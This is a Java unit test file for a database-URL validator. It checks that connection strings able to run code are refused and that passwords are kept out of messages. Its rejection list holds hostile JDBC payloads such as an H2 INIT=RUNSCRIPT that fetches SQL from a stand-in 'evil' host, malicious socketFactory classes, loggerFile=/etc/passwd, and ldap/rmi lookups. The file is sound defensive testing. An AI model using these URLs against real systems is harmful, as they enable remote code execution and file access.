package org.athanor.experiments.internal.database;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import org.athanor.api.store.StoreException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class DatabaseUrlTest {

  private static final Path DATA = Path.of("/data");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:file:/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:file:/x;init=create alias a as 'void a() {}'",
        "jdbc:h2:file:/x;CACHE_SIZE=1000\\;INIT=RUNSCRIPT",
        "jdbc:h2:file:/x;CACHE_SIZE=1;IN IT=x",
        "jdbc:h2:file:/x;TRACE_LEVEL_FILE=4",
        "jdbc:h2:file:/x;AUTHENTICATOR=TRUE",
        "jdbc:h2:file:/x;AUTHREALM=x",
        "jdbc:h2:file:/x;RETENTION_TIME=0",
        "jdbc:h2:file:/x;WRITE_DELAY=500",
        "jdbc:h2:file:/x;FILE_LOCK=NO",
        "jdbc:h2:file:/x;AUTO_SERVER=TRUE",
        "jdbc:h2:file:/x;JMX=TRUE",
        "jdbc:h2:file:/x;DATABASE_EVENT_LISTENER='evil.Class'",
        "jdbc:h2:mem:x",
        "jdbc:h2:tcp://evil/x",
        "jdbc:h2:ssl://evil/x",
        "jdbc:h2:zip:/x.zip!/x",
        "jdbc:h2:",
        "jdbc:postgresql://h/d?socketFactory=evil.Class&socketFactoryArg=http://evil",
        "jdbc:postgresql://h/d?sslfactory=evil.Class",
        "jdbc:postgresql://h/d?user=a&sslhostnameverifier=evil.Class",
        "jdbc:postgresql://h/d?%73ocketFactory=evil.Class",
        "jdbc:postgresql://h/d?authenticationPluginClassName=evil.Class",
        "jdbc:postgresql://h/d?loggerFile=/etc/passwd",
        "jdbc:postgresql://h/d?jaasLogin=true",
        "java:comp/env/jdbc/x",
        "ldap://evil/x",
        "rmi://evil/x",
        "jdbc:mysql://h/d",
        "x"
      })
  void refusesWhatCouldRunCode(String url) {
    assertThrows(StoreException.class, () -> DatabaseUrl.connector(url, DATA));
  }

  @ParameterizedTest
  @CsvSource({
    "'', /data/experiments.mv.db",
    "jdbc:h2:/x/y, /x/y.mv.db",
    "jdbc:h2:file:/x/y;CACHE_SIZE=65536, /x/y.mv.db",
    "jdbc:postgresql://h:5432/d?user=a&password=secret&sslmode=verify-full,"
        + " jdbc:postgresql://h:5432/d?user=a&password=...&sslmode=verify-full",
  })
  void namesThePlaceWithoutThePassword(String url, String place) {
    try (Connector connector = DatabaseUrl.connector(url, DATA)) {
      assertEquals(place, connector.place());
    }
  }

  @Test
  void namesTheSettingThatIsRefusedAndThoseAllowedButNotThePassword() {
    String url = "jdbc:postgresql://h/d?password=secret&sslfactory=x";
    String message =
        assertThrows(StoreException.class, () -> DatabaseUrl.connector(url, DATA)).getMessage();
    assertTrue(message.contains("'sslfactory'") && message.contains("sslmode"), message);
    assertFalse(message.contains("secret"), message);
  }
}
